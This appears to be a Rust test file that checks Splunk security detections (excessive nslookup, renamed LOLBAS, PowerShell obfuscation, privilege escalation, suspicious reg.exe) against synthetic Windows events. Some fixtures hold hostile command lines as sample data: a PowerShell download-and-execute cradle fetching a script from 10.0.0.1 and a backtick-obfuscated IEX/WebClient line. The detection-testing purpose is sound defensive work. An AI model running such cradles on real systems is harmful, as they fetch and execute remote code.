//! Real security_content detections (from ../shared/corpus/splunk) on hand-built events: the
//! post-processing commands (bucket, eventstats, eval, rex, lookup, dynamic regexes) give the
//! results Splunk would. Skipped without ../shared.

#[path = "spl_helpers.rs"]
mod helpers;

use evtxscan::event::Event;
use evtxscan::rules::{load, LoadOptions, Rule};
use helpers::*;
use std::path::{Path, PathBuf};
use std::sync::Arc;

fn corpus() -> Option<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus/splunk");
    if root.exists() {
        Some(root)
    } else {
        println!("skipped: {} not found", root.display());
        None
    }
}

/// Load one detection with every macro and lookup of the corpus.
fn detection(root: &Path, file: &str) -> Arc<dyn Rule> {
    let paths = vec![
        root.join("detections/endpoint").join(file),
        root.join("macros"),
        root.join("lookups"),
    ];
    let report = load(&paths, &LoadOptions::default());
    assert_eq!(
        report.rules.len(),
        1,
        "{:#?}",
        report
            .verdicts
            .iter()
            .filter(|v| !v.reason.is_empty())
            .collect::<Vec<_>>()
    );
    report.rules[0].clone()
}

fn proc1(record: u64, time: &str, image: &str, cmd: &str, ofn: &str) -> Event {
    event(
        SYSMON,
        1,
        record,
        time,
        &[
            ("ProcessGuid", "{11111111-0000-0000-0000-000000000001}"),
            ("ProcessId", "2296"),
            ("Image", image),
            ("OriginalFileName", ofn),
            ("CommandLine", cmd),
            ("User", "CORP\\bob"),
            ("ParentImage", "C:\\Windows\\System32\\services.exe"),
            ("ParentCommandLine", "services.exe"),
        ],
    )
}

#[test]
fn excessive_nslookup_buckets_and_eventstats() {
    let Some(root) = corpus() else { return };
    let rule = detection(&root, "excessive_usage_of_nslookup_app.yml");
    let nslookup = "C:\\Windows\\System32\\nslookup.exe";
    // Twenty quiet minutes with one lookup each, then a burst of 30 in one minute.
    let mut evs: Vec<Event> = (0..20)
        .map(|i| {
            proc1(
                100 + i,
                &format!("2024-01-01T09:{:02}:30Z", i),
                nslookup,
                "nslookup a",
                "nslookup.exe",
            )
        })
        .collect();
    evs.extend((0..30).map(|i| {
        proc1(
            200 + i,
            &format!("2024-01-01T10:00:{:02}Z", i),
            nslookup,
            "nslookup x",
            "nslookup.exe",
        )
    }));
    let hits = run(&rule, &evs);
    assert_eq!(
        hits.len(),
        1,
        "{:#?}",
        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
    );
    assert_eq!(field(&hits[0], "numNsLookup"), Some("30"));
    assert_eq!(field(&hits[0], "numSlots"), Some("21"));
    assert_eq!(field(&hits[0], "_time"), Some("2024-01-01T10:00:00Z"));
    assert_eq!(hits[0].aggregate.as_ref().unwrap().count, 30);
    // A burst of 20 is not above the detection's floor of 20.
    assert!(run(&rule, &evs[..40]).is_empty());
}

#[test]
fn path_interception_uses_rex_and_lower() {
    let Some(root) = corpus() else { return };
    let rule = detection(
        &root,
        "detect_path_interception_by_creation_of_program_exe.yml",
    );
    let evs = [
        // services.exe starts C:\program.exe for an unquoted "C:\program files\svc\svc.exe".
        proc1(
            1,
            "2024-01-01T10:00:00Z",
            "C:\\program.exe",
            "C:\\program files\\svc\\svc.exe -k",
            "program.exe",
        ),
        // A normal service start: the command line names the same file.
        proc1(
            2,
            "2024-01-01T10:00:01Z",
            "C:\\svc\\svc.exe",
            "\"C:\\svc\\svc.exe\" -k",
            "svc.exe",
        ),
    ];
    let hits = run(&rule, &evs);
    assert_eq!(
        hits.len(),
        1,
        "{:#?}",
        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
    );
    assert_eq!(field(&hits[0], "process_name"), Some("program.exe"));
    assert_eq!(field(&hits[0], "service_process"), Some("svc.exe"));
}

#[test]
fn renamed_lolbas_uses_dynamic_regex_and_wildcard_lookup() {
    let Some(root) = corpus() else { return };
    let rule = detection(&root, "windows_lolbas_executed_as_renamed_file.yml");
    let evs = [
        // rundll32 copied to a user folder under another name: renamed LOLBAS.
        proc1(
            1,
            "2024-01-01T10:00:00Z",
            "C:\\Users\\bob\\fun.exe",
            "fun.exe x.dll,Run",
            "RUNDLL32.EXE",
        ),
        // Same name as its original file name: not renamed.
        proc1(
            2,
            "2024-01-01T10:00:01Z",
            "C:\\Users\\bob\\rundll32.exe",
            "rundll32 x.dll,Run",
            "RUNDLL32.EXE",
        ),
        // Renamed, but not a LOLBAS: the lookup gives its default "false".
        proc1(
            3,
            "2024-01-01T10:00:02Z",
            "C:\\Users\\bob\\tool.exe",
            "tool",
            "mytool.exe",
        ),
    ];
    let hits = run(&rule, &evs);
    assert_eq!(
        hits.len(),
        1,
        "{:#?}",
        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
    );
    assert_eq!(field(&hits[0], "process_name"), Some("fun.exe"));
    assert_eq!(
        field(&hits[0], "desc"),
        Some("Used by Windows to execute dll files")
    );
}

#[test]
fn obfuscation_counts_characters_with_split_and_mvcount() {
    let Some(root) = corpus() else { return };
    let rule = detection(
        &root,
        "malicious_powershell_process_with_obfuscation_techniques.yml",
    );
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let evs = [
        proc1(
            1,
            "2024-01-01T10:00:00Z",
            ps,
            "powershell i`e`x (n`e`w`-`o`b`j`e`c`t n`e`t.w`e`b`c`l`i`e`n`t)",
            "PowerShell.EXE",
        ),
        proc1(
            2,
            "2024-01-01T10:00:01Z",
            ps,
            "powershell -c \"Get-Date\"",
            "PowerShell.EXE",
        ),
    ];
    let hits = run(&rule, &evs);
    assert_eq!(hits.len(), 1);
    assert_eq!(field(&hits[0], "num_obfuscation"), Some("21"));
}

#[test]
fn privilege_escalation_joins_processes_with_processes() {
    let Some(root) = corpus() else { return };
    let rule = detection(
        &root,
        "windows_privilege_escalation_user_process_spawn_system_process.yml",
    );
    let user_proc = event(
        SYSMON,
        1,
        1,
        "2024-01-01T10:00:00Z",
        &[
            ("ProcessGuid", "{AAAAAAAA-0000-0000-0000-000000000001}"),
            ("ProcessId", "100"),
            ("Image", "C:\\Users\\bob\\evil.exe"),
            ("CommandLine", "evil.exe"),
            ("CurrentDirectory", "C:\\Users\\bob\\"),
            ("User", "CORP\\bob"),
            ("IntegrityLevel", "Medium"),
            (
                "ParentProcessGuid",
                "{AAAAAAAA-0000-0000-0000-000000000000}",
            ),
            ("ParentImage", "C:\\Windows\\explorer.exe"),
            ("ParentCommandLine", "explorer.exe"),
        ],
    );
    let system_child = event(
        SYSMON,
        1,
        2,
        "2024-01-01T10:00:05Z",
        &[
            ("ProcessGuid", "{AAAAAAAA-0000-0000-0000-000000000002}"),
            ("ProcessId", "200"),
            ("Image", "C:\\Windows\\System32\\cmd.exe"),
            ("CommandLine", "cmd.exe /c whoami"),
            ("CurrentDirectory", "C:\\Windows\\System32\\"),
            ("User", "NT AUTHORITY\\SYSTEM"),
            ("IntegrityLevel", "System"),
            (
                "ParentProcessGuid",
                "{AAAAAAAA-0000-0000-0000-000000000001}",
            ),
            ("ParentImage", "C:\\Users\\bob\\evil.exe"),
            ("ParentCommandLine", "evil.exe"),
        ],
    );
    let hits = run(&rule, &[user_proc.clone(), system_child]);
    assert_eq!(
        hits.len(),
        1,
        "{:#?}",
        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
    );
    let h = &hits[0];
    assert_eq!(field(h, "process_name"), Some("evil.exe"));
    assert_eq!(field(h, "user"), Some("CORP\\bob"));
    assert_eq!(field(h, "system_process_name"), Some("cmd.exe"));
    assert_eq!(field(h, "system_user"), Some("NT AUTHORITY\\SYSTEM"));
    assert_eq!(field(h, "system_process_integrity_level"), Some("system"));
    let ids: Vec<u64> = h
        .aggregate
        .as_ref()
        .unwrap()
        .records
        .iter()
        .map(|r| r.record_id)
        .collect();
    assert_eq!(ids, vec![1, 2]);
    // Without the SYSTEM child there is nothing to join.
    assert!(run(&rule, &[user_proc]).is_empty());
}

#[test]
fn powershell_hunting_scores_with_addtotals() {
    let Some(root) = corpus() else { return };
    let rule = detection(&root, "powershell_4104_hunting.yml");
    let sb = |record: u64, text: &str| {
        event(
            "Microsoft-Windows-PowerShell/Operational",
            4104,
            record,
            "2024-01-01T10:00:00Z",
            &[
                ("MessageNumber", "1"),
                ("MessageTotal", "1"),
                ("ScriptBlockText", text),
                ("ScriptBlockId", "{x}"),
            ],
        )
    };
    let evs = [
        sb(
            1,
            "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')",
        ),
        sb(2, "Write-Output 1"),
    ];
    let hits = run(&rule, &evs);
    let score = |h: &evtxscan::hit::Hit| field(h, "values(Score)").map(str::to_string);
    let mut scores: Vec<Option<String>> = hits.iter().map(score).collect();
    scores.sort();
    // iex 2 + webclient 5 = 7; the plain script scores 0.
    assert_eq!(scores, vec![Some("0".to_string()), Some("7".to_string())]);
    let h = hits.iter().find(|h| field(h, "iex") == Some("2")).unwrap();
    assert_eq!(field(h, "webclient"), Some("5"));
    assert_eq!(field(h, "user"), Some("S-1-5-18"));
    assert_eq!(field(h, "dest"), Some("WS01.corp.local"));
}

#[test]
fn search_subsearch_filters_by_its_rows() {
    let Some(root) = corpus() else { return };
    let rule = detection(&root, "suspicious_reg_exe_process.yml");
    let p = |record: u64, pid: &str, image: &str, ppid: &str, parent: &str| {
        event(
            SYSMON,
            1,
            record,
            "2024-01-01T10:00:00Z",
            &[
                ("ProcessId", pid),
                ("Image", image),
                ("CommandLine", "x"),
                ("User", "CORP\\bob"),
                ("ParentProcessId", ppid),
                ("ParentImage", parent),
            ],
        )
    };
    let evs = [
        p(
            1,
            "100",
            "C:\\Windows\\System32\\cmd.exe",
            "50",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
        p(
            2,
            "300",
            "C:\\Windows\\System32\\reg.exe",
            "100",
            "C:\\Windows\\System32\\cmd.exe",
        ),
        p(
            3,
            "200",
            "C:\\Windows\\System32\\cmd.exe",
            "50",
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ),
    ];
    let hits = run(&rule, &evs);
    assert_eq!(
        hits.len(),
        1,
        "{:#?}",
        hits.iter().map(|h| &h.fields).collect::<Vec<_>>()
    );
    assert_eq!(field(&hits[0], "process_id"), Some("100"));
    assert_eq!(
        field(&hits[0], "parent_process_name"),
        Some("powershell.exe")
    );
}
